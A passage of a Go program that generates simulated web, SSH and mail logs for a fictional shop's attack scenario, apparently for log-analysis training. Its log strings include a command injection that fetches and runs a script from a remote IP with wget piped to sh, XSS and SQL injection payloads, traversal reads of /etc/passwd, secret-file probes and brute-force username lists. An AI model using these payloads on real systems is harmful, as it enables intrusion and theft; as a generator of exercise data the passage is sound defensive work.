	probe(iot, at(24, 23, 50, 0), 1, 4, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36",
		[]string{"POST /boaform/admin/formLogin", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F117.239.21.130%2Ft%7Csh%60)", "POST /HNAP1/", "/cgi-bin/ViewLog.asp"})

	// phpinfo/.env from Egypt.
	eg := who("156.214.30.7", vulnScanner, "EG")
	probe(eg, at(27, 17, 22, 14), 1, 3, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
		[]string{"/phpinfo.php", "/info.php", "/.env", "/admin/config.php"})

	// A fake Googlebot: Googlebot's user agent from a Russian hosting range,
	// asking for secrets. Its probes make it a scanner, not a good bot.
	fg := who("45.141.84.57", vulnScanner, "RU")
	probe(fg, at(10, 3, 33, 0), 2, 6, uaGooglebot, []string{"/robots.txt", "/", "/.env", "/wp-config.php.bak", "/.git/config", "/backup.sql", "/products/enamel-camp-mug"})

	// IPv6 scanner (LeakIX's l9explore) from a Hetzner range.
	v6 := who("2a01:4f8:c17:3a5f::1", vulnScanner, "DE")
	probe(v6, at(13, 11, 48, 2), 0, 2, uaL9, []string{"/", "/.env", "/.git/config", "/.DS_Store", "/server-status", "/backup.zip", "/config.php.bak"})
	probe(v6, at(28, 21, 3, 55), 0, 2, uaL9, []string{"/.env", "/.git/config"})

	// The scanner that also brute-forces SSH (auth.log: sshAttackers).
	both := who("222.186.30.76", vulnScanner, "CN")
	probe(both, at(16, 2, 11, 30), 1, 5, uaChromeWin, []string{"/phpmyadmin/index.php", "/pma/index.php", "/phpMyAdmin-5.2.0/index.php", "/mysql/admin/index.php", "/admin/phpmyadmin/index.php", "/.env", "/db/index.php"})

	acunetix()
}

// acunetix replays the incident report's scan: a POODLE probe from .21 on
// 1 October, then a four-hour Acunetix scan from .246 on 3 October
// (09:52:42–13:46:10 +0100, i.e. 08:52:42–12:46:10 UTC).
func acunetix() {
	recon := who("5.2.136.21", noise, "RO")
	raw(recon, at(1, 9, 7, 3), `\x16\x03\x02`, 400, "0", "-", "-")

	ip := who("5.2.136.246", vulnScanner, "RO")
	start, stop := at(3, 8, 52, 42), at(3, 12, 46, 10)
	public := []string{"/", "/products", "/category/kitchen", "/category/home", "/about", "/contact", "/account/login", "/cart", "/search?q=test"}
	for _, p := range products {
		public = append(public, "/products/"+p.slug)
	}
	attacks := []struct {
		req    string
		status int
		n      string
	}{
		{"GET /acunetix-wvs-test-for-some-inexistent-file HTTP/1.1", 404, "196"},
		{"GET /search?q=%27%22()%26%25%3Cacx%3E%3CScRiPt%20%3EprmT(9437)%3C/ScRiPt%3E HTTP/1.1", 200, "9120"},
		{`GET /search?q=\"><script>alert(document.cookie)</script> HTTP/1.1`, 200, "9120"},
		{"GET /search?q=%3Csvg%2Fonload%3Dprompt(1)%3E HTTP/1.1", 200, "9120"},
		{"GET /search?q=1%27%20OR%201%3D1-- HTTP/1.1", 200, "9120"},
		{"GET /search?q=1%27%20OR%20%271%27%3D%271 HTTP/1.1", 200, "9120"},
		{"GET /products?id=1%27%20AND%20SLEEP(5)--%20 HTTP/1.1", 500, "612"},
		{"GET /products?sort=..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1", 200, "13500"},
		{"GET /static/../../../../../../etc/passwd HTTP/1.1", 400, "226"},
		{"GET /download?file=....//....//....//....//etc/passwd HTTP/1.1", 404, "196"},
		{"GET /download?file=../../../../../../etc/password HTTP/1.1", 404, "196"},
		{"GET /image?url=file:///etc/passwd HTTP/1.1", 500, "612"},
		{"GET /image?url=http://bxss.me/t/fit.txt HTTP/1.1", 500, "612"},
		{"GET /redirect?to=http://bxss.me/redirToFile HTTP/1.1", 404, "196"},
		{"GET /search?q=http://testasp.vulnweb.com/t/fit.txt HTTP/1.1", 200, "9120"},
		{"GET /products?url=http://some-inexistent-website.acu/some_inexistent_file_with_long_name%3F.jpg HTTP/1.1", 200, "13500"},
		{"GET /search?q=%7C%7Cnslookup%20-q%3Dcname%20hitcqxwbbmgib2a1e7.bxss.me%26 HTTP/1.1", 200, "9120"},
		{"GET /search?q=;cat%20/etc/passwd HTTP/1.1", 200, "9120"},
		{"GET /WEB-INF/web.xml HTTP/1.1", 404, "196"},
		{"GET /.git/HEAD HTTP/1.1", 403, "199"},
		{"GET /.svn/entries HTTP/1.1", 404, "196"},
		{"GET /server-status HTTP/1.1", 403, "199"},
		{"GET /phpinfo.php HTTP/1.1", 404, "196"},
		{"GET /elmah.axd HTTP/1.1", 404, "196"},
		{"GET /trace.axd HTTP/1.1", 404, "196"},
		{"GET /crossdomain.xml HTTP/1.1", 404, "196"},
		{"GET /backup.zip HTTP/1.1", 404, "196"},
		{"GET /.env HTTP/1.1", 403, "199"},
	}
	n := 0
	for t := start; !t.After(stop); t = t.Add(secs(20, 60)) {
		ua := uaAcunetix
		if n%9 == 4 {
			ua = uaAcunetix2
		}
		switch {
		case n%3 == 0:
			a := attacks[(n/3)%len(attacks)]
			raw(ip, t, a.req, a.status, a.n, "-", ua)
		default:
			// Spidering: a few public pages fetched again and again.
			p := pick(public)
			raw(ip, t, "GET "+p+" HTTP/1.1", 200, fmt.Sprint(9000+rng.IntN(7000)), site+"/", ua)
		}
		n++
	}
	// Form testing on the login page: 12 rejected POSTs in eight minutes.
	t := at(3, 10, 40, 5)
	for range 12 {
		raw(ip, t, "POST /account/login HTTP/1.1", 401, "6344", site+"/account/login", uaAcunetix)
		t = t.Add(secs(30, 45))
	}
}

// ---------------------------------------------------------------------------
// HTTP login brute force and DoS

func httpBruteForce() {
	ip := who("95.24.17.206", bruteForce, "RU")
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0"
	t := at(12, 2, 40, 51)
	hit(ip, t, "GET", "/account/login", 200, 6120, "-", ua)
	for range 14 {
		t = t.Add(secs(18, 32))
		hit(ip, t, "POST", "/account/login", 401, 6344, site+"/account/login", ua)
	}
	// It comes back the next night and is locked out (403).
	t = at(13, 3, 2, 10)
	for range 11 {
		hit(ip, t, "POST", "/account/login", 403, 4210, site+"/account/login", ua)
		t = t.Add(secs(20, 40))
	}
}

// dos: 1,200 GET / from one OVH address in Gravelines within one clock
// minute (17 October 03:14:00–03:14:59 UTC): 20 requests a second.
func denialOfService() {
	ip := who("51.91.13.226", dos, "FR")
	t0 := at(17, 3, 14, 0)
	for i := range 1200 {
		t := t0.Add(time.Duration(i/20) * time.Second)
		st, n := 200, "11853"
		if i >= 700 && i%3 != 0 {
			st, n = 503, "299"
		}
		raw(ip, t, "GET / HTTP/1.1", st, n, "-", "Go-http-client/1.1")
	}
}

// ---------------------------------------------------------------------------
// Proxy scanners and noise

func proxyScanners() {
	// Real-world request: LeakIX.
	lk := who("88.99.2.170", proxyScanner, "DE")
	raw(lk, at(4, 14, 2, 17), "CONNECT leakix.net:443 HTTP/1.1", 403, "0", "-", "Go-http-client/1.1")
	raw(lk, at(22, 1, 55, 40), "CONNECT leakix.net:443 HTTP/1.1", 403, "0", "-", "Go-http-client/1.1")
	// Real-world request: mail relay attempt through CONNECT.
	at1 := who("36.110.228.254", proxyScanner, "CN")
	raw(at1, at(7, 18, 11, 2), "CONNECT account.atresmedia.com:25 HTTP/1.1", 405, "0", "-", "Java/1.8.0_271")
	raw(at1, at(7, 18, 11, 3), "CONNECT account.atresmedia.com:25 HTTP/1.1", 405, "0", "-", "Java/1.8.0_271")
	// Absolute-URI proxy checks.
	bd := who("113.31.103.7", proxyScanner, "CN")
	raw(bd, at(3, 4, 20, 11), "GET http://www.baidu.com/ HTTP/1.1", 200, "11853", "-", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
	raw(bd, at(3, 4, 20, 12), "GET http://www.wujieliulan.com/ HTTP/1.1", 200, "11853", "-", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")
	gz := who("183.3.202.18", proxyScanner, "CN")
	raw(gz, at(10, 15, 0, 31), "CONNECT www.baidu.com:443 HTTP/1.1", 405, "0", "-", "-")
	raw(gz, at(25, 6, 33, 9), "CONNECT www.voanews.com:443 HTTP/1.1", 405, "0", "-", "-")
	az := who("58.56.12.77", proxyScanner, "CN")
	raw(az, at(14, 9, 10, 50), "GET http://azenv.net/ HTTP/1.1", 200, "11853", "-", "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0")
	raw(az, at(14, 9, 10, 52), "GET http://httpbin.org/ip HTTP/1.1", 404, "196", "-", "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:47.0) Gecko/20100101 Firefox/47.0")
	hk := who("124.156.126.68", proxyScanner, "HK")
	raw(hk, at(18, 20, 41, 0), "CONNECT api.ipify.org:443 HTTP/1.1", 405, "0", "-", "python-requests/2.31.0")
	raw(hk, at(18, 20, 41, 1), "GET http://api.ipify.org/?format=json HTTP/1.1", 404, "196", "-", "python-requests/2.31.0")
	ru := who("31.184.198.71", proxyScanner, "RU")
	raw(ru, at(21, 12, 14, 44), "CONNECT smtp.mail.ru:25 HTTP/1.0", 405, "0", "-", "-")
	raw(ru, at(21, 12, 14, 45), "CONNECT 64.233.184.27:25 HTTP/1.0", 405, "0", "-", "-")
	ch := who("45.143.200.6", proxyScanner, "CH")
	raw(ch, at(26, 0, 2, 19), "CONNECT www.google.com:443 HTTP/1.1", 405, "0", "-", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36")
	co := who("181.49.102.2", proxyScanner, "CO")
	raw(co, at(29, 22, 47, 5), "GET http://ip-api.com/json HTTP/1.1", 404, "196", "-", "Go-http-client/1.1")
	raw(co, at(29, 22, 47, 6), "GET http://www.google.com/ HTTP/1.1", 200, "11853", "-", "Go-http-client/1.1")
	kz := who("95.56.12.4", proxyScanner, "KZ")
	raw(kz, at(30, 5, 5, 5), "CONNECT www.youtube.com:443 HTTP/1.1", 405, "0", "-", "-")
}

func noiseSources() {
	tlsHello := func() string {
		b := append([]byte{0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03}, randBytes(between(12, 40))...)
		return escape(b)
	}
	// TLS ClientHellos sent to port 80.
	tl := who("94.232.41.30", noise, "RU")
	for _, d := range []int{2, 8, 15, 22, 29} {
		raw(tl, at(d, between(0, 23), between(0, 59), between(0, 59)), tlsHello(), 400, "226", "-", "-")
	}
	bdn := who("37.111.202.5", noise, "BD")
	raw(bdn, at(12, 7, 2, 45), `\x16\x03\x01\x02`, 400, "226", "-", "-")
	raw(bdn, at(12, 7, 2, 46), tlsHello(), 400, "226", "-", "-")
	// RDP connection requests (Cookie: mstshash=...).
	// TPKT header (03 00 + length), X.224 connection request (length
	// indicator, e0), then the cookie line, which Apache logs as the request.
	rdp := func(user string) string {
		return `\x03\x00` + escape([]byte{0, byte(38 + len(user)), byte(33 + len(user))}) + `\xe0\x00\x00\x00\x00\x00Cookie: mstshash=` + user
	}
	ir := who("2.176.95.11", noise, "IR")
	raw(ir, at(6, 2, 31, 7), rdp("Administr"), 400, "226", "-", "-")
	raw(ir, at(6, 2, 31, 9), rdp("hello"), 400, "226", "-", "-")
	tr := who("176.41.18.90", noise, "TR")
	raw(tr, at(19, 13, 8, 26), rdp("nmap"), 400, "226", "-", "-")
	// Connections that never send a request (408 with "-").
	e1 := who("109.230.70.19", noise, "IR")
	raw(e1, at(11, 23, 59, 1), "-", 408, "-", "-", "-")
	raw(e1, at(11, 23, 59, 2), "-", 408, "-", "-", "-")
	e2 := who("89.64.23.5", noise, "PL")
	raw(e2, at(24, 4, 12, 30), "-", 408, "-", "-", "-")
	// An SSH client speaking to the web server, and a scanner tag with the
	// server's own (documentation-range) address in it.
	ss := who("167.99.210.41", noise, "NL")
	raw(ss, at(16, 18, 2, 3), "SSH-2.0-Go", 400, "226", "-", "-")
	mg := who("64.62.197.45", noise, "US")
	raw(mg, at(20, 9, 40, 18), "MGLNDD_198.51.100.24_80", 400, "226", "-", "-")
	raw(mg, at(27, 9, 41, 2), "MGLNDD_198.51.100.24_80", 400, "226", "-", "-")
	// Binary garbage.
	th := who("1.46.12.8", noise, "TH")
	raw(th, at(9, 21, 15, 0), escape(append([]byte{0, 0, 0, 'T', 'Z'}, randBytes(18)...)), 400, "226", "-", "-")
	raw(th, at(9, 21, 15, 1), escape(randBytes(24)), 400, "226", "-", "-")
}

// ---------------------------------------------------------------------------
// Admin (web + SSH)

const admin = "73.162.41.88"

func adminWeb() {
	who(admin, legit, "US")
	for _, day := range []int{1, 5, 8, 14, 19, 22, 26, 30} {
		t := at(day, 15, between(0, 40), between(0, 59))
		t = visit(admin, t, "/account/login", 200, 6120, "-", uaChromeMac, day != 1, 0)
		t = t.Add(secs(5, 15))
		hit(admin, t, "POST", "/account/login", 302, 0, site+"/account/login", uaChromeMac)
		t = t.Add(secs(1, 2))
		t = visit(admin, t, "/admin/", 200, 9120, site+"/account/login", uaChromeMac, true, 0)
		for range between(1, 4) {
			t = t.Add(secs(10, 200))
			hit(admin, t, "GET", pick([]string{"/admin/orders", "/admin/orders?status=open", "/admin/products", "/admin/products/new"}), 200, 20000+rng.IntN(9000), site+"/admin/", uaChromeMac)
		}
	}
}

// ---------------------------------------------------------------------------
// sshd (auth.log)

var sshPID = 1180

func nextPID() int {
	sshPID += between(2, 60)
	return sshPID
}

func port() int { return between(1025, 65500) }

func syslog(l *logfile, t time.Time, proc string, msg string) {
	l.add(t, t.Format("Jan _2 15:04:05")+" shop "+proc+": "+msg)
}

func sshd(t time.Time, pid int, msg string) { syslog(authLog, t, fmt.Sprintf("sshd[%d]", pid), msg) }

var dictUsers = []string{"admin", "test", "oracle", "ubuntu", "postgres", "steam", "shop", "service", "user", "git", "ftpuser", "pi",
	"guest", "support", "hadoop", "minecraft", "ts3", "odoo", "debian", "dev", "jenkins", "mysql", "nagios", "es", "deployer", "sol", "validator", "test1", "www", "ansible"}

// attempt is one SSH connection with one failed authentication; it returns
// the time the connection ended.
func attempt(ip string, t time.Time, style string) time.Time {
	pid, p := nextPID(), port()
	switch style {
	case "dict": // invalid user, one password
		u := pick(dictUsers)
		sshd(t, pid, fmt.Sprintf("Invalid user %s from %s port %d", u, ip, p))
		t = t.Add(secs(1, 3))
		sshd(t, pid, "pam_unix(sshd:auth): check pass; user unknown")
		sshd(t, pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="+ip)
		t = t.Add(secs(1, 3))
		sshd(t, pid, fmt.Sprintf("Failed password for invalid user %s from %s port %d ssh2", u, ip, p))
		t = t.Add(secs(0, 1))
		if chance(0.5) {
			sshd(t, pid, fmt.Sprintf("Received disconnect from %s port %d:11: Bye Bye [preauth]", ip, p))
			sshd(t, pid, fmt.Sprintf("Disconnected from invalid user %s %s port %d [preauth]", u, ip, p))
		} else {
			sshd(t, pid, fmt.Sprintf("Connection closed by invalid user %s %s port %d [preauth]", u, ip, p))
		}
	case "probe": // invalid user, no password offered
		u := pick(dictUsers)
		sshd(t, pid, fmt.Sprintf("Invalid user %s from %s port %d", u, ip, p))
		t = t.Add(secs(0, 1))
		sshd(t, pid, fmt.Sprintf("Connection closed by invalid user %s %s port %d [preauth]", u, ip, p))
	case "root":
		t = t.Add(secs(1, 2))
		sshd(t, pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root", ip))
		t = t.Add(secs(1, 2))
		sshd(t, pid, fmt.Sprintf("Failed password for root from %s port %d ssh2", ip, p))
		t = t.Add(secs(0, 1))
		if chance(0.5) {
			sshd(t, pid, fmt.Sprintf("Received disconnect from %s port %d:11: Bye Bye [preauth]", ip, p))
			sshd(t, pid, fmt.Sprintf("Disconnected from authenticating user root %s port %d [preauth]", ip, p))
		} else {
			sshd(t, pid, fmt.Sprintf("Connection closed by authenticating user root %s port %d [preauth]", ip, p))
		}
	case "rootmax": // three passwords on one connection
		sshd(t.Add(secs(1, 2)), pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root", ip))
		for range 3 {
			t = t.Add(secs(2, 4))
			sshd(t, pid, fmt.Sprintf("Failed password for root from %s port %d ssh2", ip, p))
		}
		sshd(t, pid, fmt.Sprintf("error: maximum authentication attempts exceeded for root from %s port %d ssh2 [preauth]", ip, p))
		sshd(t, pid, fmt.Sprintf("Disconnecting authenticating user root %s port %d: Too many authentication failures [preauth]", ip, p))
		sshd(t, pid, fmt.Sprintf("PAM 2 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=root", ip))
	}
	return t
}

type sshAttacker struct {
	ip, cc string
	bursts []int // attempts per burst
	style  string
}

var sshAttackers = []sshAttacker{
	{"61.177.172.60", "CN", []int{18, 13, 11}, "root"},
	{"218.92.0.112", "CN", []int{15, 10}, "rootmax"},
	{"112.85.42.88", "CN", []int{7, 5}, "mixed"},
	{"47.92.137.21", "CN", []int{8}, "dict"},
	{"117.50.32.107", "CN", []int{5, 4}, "dict"},
	{"111.7.96.173", "CN", []int{6}, "mixed"},
	{"122.114.19.7", "CN", []int{5}, "dict"},
	{"180.101.88.241", "CN", []int{10, 7}, "root"},
	{"222.186.30.76", "CN", []int{12}, "root"}, // also scans the web site
	{"104.248.57.113", "US", []int{7, 4}, "dict"},
	{"159.65.33.14", "US", []int{5}, "mixed"},
	{"62.76.12.5", "RU", []int{8}, "dict"},
	{"188.162.64.11", "RU", []int{4}, "probe"},
	{"80.82.77.139", "NL", []int{5}, "mixed"},
	{"93.174.93.12", "NL", []int{4}, "dict"},
	{"5.9.137.88", "DE", []int{6}, "dict"},
	{"78.46.75.103", "DE", []int{4}, "root"},
	{"51.77.146.18", "FR", []int{5}, "dict"},
	{"163.172.148.30", "FR", []int{4}, "mixed"},
	{"106.51.81.19", "IN", []int{5, 3}, "dict"},
	{"182.71.214.5", "IN", []int{4}, "root"},
	{"200.150.78.4", "BR", []int{5}, "dict"},
	{"187.16.219.33", "BR", []int{4}, "mixed"},
	{"191.252.110.7", "BR", []int{4}, "dict"},
	{"113.160.224.75", "VN", []int{6}, "dict"},
	{"123.24.130.21", "VN", []int{5}, "mixed"},
	{"171.244.40.88", "VN", []int{7}, "root"},
	{"42.112.27.164", "VN", []int{4}, "probe"},
	{"121.133.18.7", "KR", []int{5}, "dict"},
	{"1.234.58.120", "KR", nil, "replay"}, // a typical attack sequence, replayed
	{"220.95.201.2", "KR", []int{4}, "mixed"},
	{"118.45.11.30", "KR", []int{4}, "dict"},
	{"133.242.5.19", "JP", []int{4}, "dict"},
	{"210.140.92.183", "JP", []int{4}, "root"},
	{"178.128.103.51", "SG", []int{5}, "dict"},
	{"176.36.21.11", "UA", []int{4}, "dict"},
	{"36.66.14.78", "ID", []int{5}, "mixed"},
	{"103.147.8.22", "ID", []int{4}, "dict"},
	{"37.32.21.9", "IR", []int{4}, "dict"},
	{"78.160.44.12", "TR", []int{4}, "root"},
	{"146.59.12.80", "PL", []int{4}, "dict"},
	{"188.26.1.5", "RO", []int{4}, "dict"},
	{"102.132.122.9", "ZA", []int{4}, "mixed"},
	{"197.210.54.32", "NG", []int{4}, "dict"},
	{"190.210.182.4", "AR", []int{4}, "dict"},
	{"201.141.100.14", "MX", []int{4}, "mixed"},
	{"158.69.243.12", "CA", []int{5}, "dict"},
	{"121.200.4.6", "AU", []int{4}, "root"},
	{"41.33.11.4", "EG", []int{4}, "dict"},
	{"49.228.154.3", "TH", []int{4}, "dict"},
	{"110.93.204.6", "PK", []int{4}, "mixed"},
	{"45.248.149.2", "BD", []int{4}, "dict"},
	{"93.41.100.15", "IT", []int{4}, "dict"},
	{"95.127.40.5", "ES", []int{4}, "dict"},
	{"85.228.21.3", "SE", []int{4}, "root"},
	{"43.252.208.5", "HK", []int{4}, "dict"},
	{"61.216.12.9", "TW", []int{4}, "mixed"},
	{"114.34.22.1", "TW", []int{4}, "dict"},
	{"89.218.100.6", "KZ", []int{4}, "dict"},
	{"186.84.10.5", "CO", []int{4}, "dict"},
	{"190.98.205.12", "CL", []int{4}, "mixed"},
}

// replaySequence reproduces a typical SSH attack sequence.
func replaySequence(ip string, t time.Time) {
	p1, p2, p3, p4, p5, p6 := port(), port(), port(), port(), port(), port()
	pid := nextPID()
	sshd(t, pid, fmt.Sprintf("Invalid user scan from %s port %d", ip, p1))
	sshd(t.Add(2*time.Second), pid, fmt.Sprintf("Disconnecting invalid user scan %s port %d: Change of username or service not allowed: (scan,ssh-connection) -> (service,ssh-connection) [preauth]", ip, p1))
	pid = nextPID()
	t = t.Add(9 * time.Second)
	sshd(t, pid, fmt.Sprintf("Invalid user service from %s port %d", ip, p2))
	sshd(t.Add(time.Second), pid, fmt.Sprintf("Received disconnect from %s port %d:11: Bye Bye [preauth]", ip, p2))
	sshd(t.Add(time.Second), pid, fmt.Sprintf("Disconnected from invalid user service %s port %d [preauth]", ip, p2))
	pid = nextPID()
	t = t.Add(14 * time.Second)
	sshd(t, pid, fmt.Sprintf("Disconnected from authenticating user root %s port %d [preauth]", ip, p3))
	pid = nextPID()
	t = t.Add(8 * time.Second)
	sshd(t, pid, fmt.Sprintf("Invalid user service from %s port %d", ip, p4))
	sshd(t.Add(time.Second), pid, fmt.Sprintf("Connection closed by invalid user service %s port %d [preauth]", ip, p4))
	pid = nextPID()
	t = t.Add(11 * time.Second)
	sshd(t, pid, fmt.Sprintf("Invalid user shop from %s port %d", ip, p5))
	sshd(t.Add(2*time.Second), pid, fmt.Sprintf("Disconnecting invalid user shop %s port %d: Change of username or service not allowed: (shop,ssh-connection) -> (sshd,ssh-connection) [preauth]", ip, p5))
	pid = nextPID()
	t = t.Add(10 * time.Second)
	sshd(t, pid, fmt.Sprintf("Invalid user steam from %s port %d", ip, p6))
	t = t.Add(2 * time.Second)
	sshd(t, pid, "pam_unix(sshd:auth): check pass; user unknown")
	sshd(t, pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost="+ip)
	sshd(t.Add(2*time.Second), pid, fmt.Sprintf("Failed password for invalid user steam from %s port %d ssh2", ip, p6))
	sshd(t.Add(3*time.Second), pid, fmt.Sprintf("Connection closed by invalid user steam %s port %d [preauth]", ip, p6))
}

func sshAttacks() {
	for _, a := range sshAttackers {
		cat := bruteForce
		if a.ip == "222.186.30.76" {
			cat = vulnScanner
		}
		who(a.ip, cat, a.cc)
		if a.style == "replay" {
			replaySequence(a.ip, at(7, 4, 12, 55))
			continue
		}
		for _, n := range a.bursts {
			t := at(between(1, 30), between(0, 23), between(0, 59), between(0, 59))
			if a.ip == "222.186.30.76" {
				t = at(16, 2, 40, 12) // half an hour after its web scan
			}
			for i := range n {
				style := a.style
				if style == "mixed" {
					style = pick([]string{"dict", "dict", "root", "probe"})
				}
				if i < 3 && style == "probe" && a.style == "mixed" {
					style = "dict" // the first three attempts are real password failures
				}
				t = attempt(a.ip, t, style)
				t = t.Add(secs(2, 40))
			}
		}
	}

	// Low and slow: four key-only root attempts fifty minutes apart never
	// put three failures inside a 1800-second window, and never log in: a
	// slow brute force.
	slow := who("200.83.1.6", bruteForce, "CL")
	t := at(20, 1, 5, 12)
	for range 4 {
		pid, p := nextPID(), port()
		sshd(t, pid, fmt.Sprintf("Connection closed by authenticating user root %s port %d [preauth]", slow, p))
		t = t.Add(50*time.Minute + secs(0, 90))
	}

	// The TLS-hello sender also knocks on port 22 with garbage.
	pid := nextPID()
	sshd(at(15, 6, 30, 2), pid, "banner exchange: Connection from 94.232.41.30 port 40112: invalid format")
}

func adminSSH() {
	// The admin mistypes the password once, then logs in (14 October).
	t := at(14, 8, 3, 9)
	pid, p := nextPID(), port()
	sshd(t, pid, fmt.Sprintf("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=jwalker", admin))
	t = t.Add(2 * time.Second)
	sshd(t, pid, fmt.Sprintf("Failed password for jwalker from %s port %d ssh2", admin, p))
	t = t.Add(6 * time.Second)
	sshd(t, pid, fmt.Sprintf("Accepted password for jwalker from %s port %d ssh2", admin, p))
	sshd(t, pid, "pam_unix(sshd:session): session opened for user jwalker(uid=1000) by jwalker(uid=0)")
	syslog(authLog, t, "systemd-logind[612]", "New session 57 of user jwalker.")
	t = t.Add(37*time.Minute + 53*time.Second)
	sshd(t, pid, fmt.Sprintf("Received disconnect from %s port %d:11: disconnected by user", admin, p))
	sshd(t, pid, fmt.Sprintf("Disconnected from user jwalker %s port %d", admin, p))
	sshd(t, pid, "pam_unix(sshd:session): session closed for user jwalker")
	syslog(authLog, t, "systemd-logind[612]", "Session 57 logged out. Waiting for processes to exit.")
	syslog(authLog, t, "systemd-logind[612]", "Removed session 57.")

	// Ordinary key logins: the admin from home, deployments from the jump host.
	jump := who("172.16.5.4", legit, "")
	session := 30
	login := func(t time.Time, user, ip string, uid int, dur time.Duration) {
		pid, p := nextPID(), port()
		session++
		sshd(t, pid, fmt.Sprintf("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:q8Vd0cWkQv2n1yX3m4ZfJH7bUe6TtLr9sPaKoGiNcEw", user, ip, p))
		sshd(t, pid, fmt.Sprintf("pam_unix(sshd:session): session opened for user %s(uid=%d) by %s(uid=0)", user, uid, user))
		syslog(authLog, t, "systemd-logind[612]", fmt.Sprintf("New session %d of user %s.", session, user))
		t = t.Add(dur)
		sshd(t, pid, fmt.Sprintf("Received disconnect from %s port %d:11: disconnected by user", ip, p))
		sshd(t, pid, fmt.Sprintf("Disconnected from user %s %s port %d", user, ip, p))
		sshd(t, pid, "pam_unix(sshd:session): session closed for user "+user)
		syslog(authLog, t, "systemd-logind[612]", fmt.Sprintf("Session %d logged out. Waiting for processes to exit.", session))
		syslog(authLog, t, "systemd-logind[612]", fmt.Sprintf("Removed session %d.", session))
	}
	for _, d := range []int{2, 9, 21, 28} {
		login(at(d, 16, between(0, 59), between(0, 59)), "jwalker", admin, 1000, secs(300, 2400))
	}
	for _, d := range []int{6, 13, 20, 27} {
		login(at(d, 11, 0, between(3, 30)), "deploy", jump, 1001, secs(40, 120))
	}
}

func systemNoise() {
	for day := 1; day <= 31; day++ {
		for _, job := range []struct{ h, m int }{{6, 25}, {0, 0}} {
			t := at(day, job.h, job.m, 1)
			pid := 20000 + rng.IntN(40000)
			syslog(authLog, t, fmt.Sprintf("CRON[%d]", pid), "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)")
			syslog(authLog, t.Add(secs(1, 40)), fmt.Sprintf("CRON[%d]", pid), "pam_unix(cron:session): session closed for user root")
		}
	}
	t := at(18, 4, 0, 12)
	syslog(authLog, t, "sshd[788]", "Received signal 15; terminating.")
	syslog(authLog, t.Add(41*time.Second), "sshd[801]", "Server listening on 0.0.0.0 port 22.")
	syslog(authLog, t.Add(41*time.Second), "sshd[801]", "Server listening on :: port 22.")
	syslog(authLog, t.Add(45*time.Second), "systemd-logind[612]", "New seat seat0.")
	syslog(authLog, at(18, 4, 1, 2), "systemd-logind[612]", "Watching system buttons on /dev/input/event0 (Power Button)")
}

// ---------------------------------------------------------------------------
// postfix and dovecot (mail.log)

const lip = "198.51.100.24" // the server's own address (documentation range)

var mailPID = 21000

func smtpd(t time.Time, pid int, msg string) {
	syslog(mailLog, t, fmt.Sprintf("postfix/smtpd[%d]", pid), msg)
}

func sessionID() string {
	const a = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	b := make([]byte, 16)
	for i := range b {
		b[i] = a[rng.IntN(len(a))]
	}
	return string(b)
}

func msgID() string {
	return fmt.Sprintf("%08x.%06x", rng.Uint32(), rng.IntN(1<<24))
}

func queueID() string {
	const a = "0123456789BCDFGHJKLMNPQRSTVWXYZbcdfghjklmnpqrstvwxyz"
	b := []byte("4c")
	for range 10 {
		b = append(b, a[rng.IntN(len(a))])
	}
	return string(b)
}

func saslAttackers() {
	type att struct {
		ip, cc, mech string
		bursts       []int
		submission   bool
	}
	for _, a := range []att{
		{"141.98.10.63", "LT", "LOGIN", []int{9, 6}, false},
		{"87.246.7.212", "BG", "LOGIN", []int{11}, false},
		{"80.94.95.181", "GB", "LOGIN", []int{8}, true},
		{"193.32.162.79", "NL", "PLAIN", []int{10}, false},
		{"45.125.66.32", "LT", "LOGIN", []int{7, 6}, false},
		{"185.234.216.59", "RU", "LOGIN", []int{9}, true},
		{"14.160.18.7", "VN", "PLAIN", []int{5}, false},
	} {
		who(a.ip, bruteForce, a.cc)
		proc := "postfix/smtpd"
		if a.submission {
			proc = "postfix/submission/smtpd"
		}
		for _, n := range a.bursts {
			t := at(between(1, 30), between(0, 23), between(0, 59), between(0, 59))
			for range n {
				mailPID += between(1, 30)
				tag := fmt.Sprintf("%s[%d]", proc, mailPID)
				syslog(mailLog, t, tag, fmt.Sprintf("connect from unknown[%s]", a.ip))
				t = t.Add(secs(1, 3))
				if a.mech == "LOGIN" {
					syslog(mailLog, t, tag, fmt.Sprintf("warning: unknown[%s]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", a.ip))
				} else {
					syslog(mailLog, t, tag, fmt.Sprintf("warning: unknown[%s]: SASL PLAIN authentication failed: (reason unavailable), sasl_username=%s@shop.example.com", a.ip, pick([]string{"info", "sales", "admin", "support", "office"})))
				}
				if chance(0.5) {
